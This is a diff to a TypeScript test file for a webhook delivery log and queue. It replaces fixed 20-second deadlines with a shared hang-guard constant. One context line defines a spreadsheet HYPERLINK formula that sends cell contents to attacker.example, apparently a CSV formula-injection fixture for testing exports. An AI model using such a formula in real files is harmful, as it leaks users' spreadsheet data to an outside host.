@@ -11,6 +11,7 @@ import { DEMO_USERS } from '../seed/demo-seed.ts';
 import { apiPaths } from '../../../shared/api-paths.ts';
 import { WEBHOOK_LOG_CSV_COLUMNS, WEBHOOK_QUEUE_CSV_COLUMNS } from '../../../shared/schemas/webhook.ts';
 import { parseCsv } from '../testing/csv-parse.ts';
+import { STATE_HANG_GUARD_MS } from '../testing/hang-guards.ts';
 
 const SLOW_RETRY = { retry: { firstDelayMs: 600_000, maxDelayMs: 600_000, giveUpAfterMs: 86_400_000, jitter: 0 }, pollIntervalMs: 50 };
 const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")';
@@ -35,7 +36,7 @@ describe('webhook delivery log and queue', () => {
   const hookFilter = (hook: { url: string }) => `webhook=${encodeURIComponent(hook.url)}`;
   /** Waits until the log has `count` rows of `hook`. */
   const logOf = async (hook: { url: string }, count: number) => {
-    const deadline = Date.now() + 20_000;
+    const deadline = Date.now() + STATE_HANG_GUARD_MS;
     for (;;) {
       await server.engine.context.webhookWorker!.idle();
       const rows = await log(`?${hookFilter(hook)}`);
@@ -248,7 +249,7 @@ describe('webhook delivery log and queue', () => {
       assert.match(entry.processing_started_at, ISO);
       assert.ok(Date.parse(entry.processing_started_at) >= before - 1000);
       release();
-      const deadline = Date.now() + 20_000;
+      const deadline = Date.now() + STATE_HANG_GUARD_MS;
       while ((await queue('?limit=100')).some((candidate) => candidate.webhook === created.json.url)) {
         assert.ok(Date.now() < deadline, 'the delivery leaves the queue once answered');
         await server.engine.context.webhookWorker!.idle();
